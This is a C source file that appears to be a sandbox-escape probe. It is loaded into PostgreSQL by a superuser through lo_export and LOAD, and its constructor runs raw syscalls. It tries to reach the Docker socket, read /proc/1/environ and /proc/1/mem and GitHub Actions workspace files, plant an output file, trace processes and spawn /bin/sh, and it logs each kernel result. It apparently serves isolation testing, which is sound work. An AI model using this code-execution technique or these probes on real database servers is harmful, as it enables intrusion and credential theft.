/*
 * What a superuser of the shadow can go as far as: machine code of their own, uploaded as a large
 * object, written into the data folder by lo_export, and run by LOAD, which calls a library's
 * constructor before PostgreSQL can refuse the library. It needs neither PostgreSQL's headers nor a
 * C library, so one file serves every major. Each line of hostile.out is an attempt and what the
 * kernel answered: a result, -errno, or 1000 + the signal that ended the attempt.
 *
 * gcc -shared -fPIC -nostdlib -Os -fno-builtin -fno-stack-protector -fcf-protection=none \
 *     -fno-asynchronous-unwind-tables -Wl,--build-id=none,-z,noseparate-code,--hash-style=sysv -s \
 *     -o hostile.so hostile.c
 */
static long call(long number, long a, long b, long c, long d, long e) {
  long result;
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  register long r9 __asm__("r9") = 0;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory");
  return result;
}

#define CALL(n, a, b, c) call(n, (long)(a), (long)(b), (long)(c), 0, 0)

static long out;

static void say(const char *name, long value) {
  char line[80];
  int at = 0;
  while (name[at]) {
    line[at] = name[at];
    at++;
  }
  line[at++] = ' ';
  if (value < 0) {
    line[at++] = '-';
    value = -value;
  }
  char digits[20];
  int count = 0;
  do {
    digits[count++] = '0' + value % 10;
    value /= 10;
  } while (value);
  while (count) line[at++] = digits[--count];
  line[at++] = '\n';
  CALL(1, out, line, at);
}

/* In a child, since it may not come back: its exit status is the errno, 0 for success. */
static long in_child(void (*attempt)(void)) {
  long child = CALL(57, 0, 0, 0);
  if (child == 0) {
    attempt();
    CALL(231, 255, 0, 0);
  }
  int status = 0;
  CALL(61, child, &status, 0);
  return (status & 0x7f) ? 1000 + (status & 0x7f) : -((status >> 8) & 0xff);
}

static void leave(long result) { CALL(231, result < 0 ? -result : 0, 0, 0); }

static void execute(const char *program) {
  const char *arguments[] = {program, 0};
  leave(CALL(59, program, arguments, arguments + 1));
}

static void shell(void) { execute("/bin/sh"); }

static void i386(void) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(359L), "b"(2L), "c"(1L), "d"(0L) : "memory");
  leave(result);
}

static void x32(void) { leave(CALL(0x40000000 + 41, 2, 1, 0)); }

struct address {
  unsigned short family;
  char path[22];
};

__attribute__((constructor)) void hostile(void) {
  out = CALL(2, "hostile.out", 01101, 0600);
  struct address engine = {1, "/var/run/docker.sock"};
  long local = CALL(41, 1, 1, 0);
  say("uid", CALL(102, 0, 0, 0));
  say("become_root", CALL(105, 0, 0, 0));
  say("internet_socket", CALL(41, 2, 1, 0));
  say("internet6_socket", CALL(41, 10, 2, 0));
  say("packet_socket", CALL(41, 17, 3, 0));
  say("netlink_socket", CALL(41, 16, 3, 0));
  say("local_socket", local < 0 ? local : 0);
  say("connect_to_the_engine", CALL(42, local, &engine, sizeof engine));
  say("send_to_the_engine", call(44, CALL(41, 1, 2, 0), (long)"x", 1, 0, (long)&engine));
  say("read_the_checkout", CALL(2, "/github/workspace/.git/config", 0, 0));
  say("read_the_event", CALL(2, "/github/workflow/event.json", 0, 0));
  say("write_an_output", CALL(2, "/github/file_commands/planted", 0101, 0666));
  say("read_the_environment", CALL(2, "/proc/1/environ", 0, 0));
  say("read_the_memory", CALL(2, "/proc/1/mem", 0, 0));
  say("enter_the_root_of_the_step", CALL(2, "/proc/1/root", 0200000, 0));
  say("signal_the_step", CALL(62, 1, 0, 0));
  say("trace_the_step", CALL(101, 16, 1, 0));
  say("copy_memory_of_the_step", CALL(310, 1, 0, 0));
  say("user_namespace", CALL(272, 0x10000000, 0, 0));
  say("network_namespace_of_a_child", CALL(56, 0x40000000 | 17, 0, 0));
  say("mount", CALL(165, "/", "/", 0));
  say("io_uring", CALL(425, 1, 0, 0));
  say("bpf", CALL(321, 0, 0, 0));
  say("keys", CALL(250, 0, 0, 0));
  say("memory_file", CALL(319, "x", 0, 0));
  say("shell", in_child(shell));
  say("i386_socket", in_child(i386));
  say("x32_socket", in_child(x32));
}
